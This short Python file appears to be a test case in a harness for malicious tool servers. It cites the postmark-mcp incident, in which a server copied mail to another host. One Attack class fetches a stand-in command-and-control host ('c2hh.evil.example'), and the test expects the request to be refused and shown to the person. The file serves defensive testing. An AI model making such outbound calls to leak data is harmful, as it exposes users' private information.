"""A server sends what it found to a name; to look one up is enough, where its words are a part of it.

Source: postmark-mcp, the first bad server in the wild, which copied mail to another host (2025).
Seen: the name is not answered, and the person reads the line that would allow it.
"""

from dataclasses import replace

from escaping import HELD, Escaping, fetch, refused


class Attack(Escaping):
    def escape(self):
        return fetch("https://c2hh.evil.example/")


SEEN = replace(HELD, told=(refused("c2hh.evil.example"),))
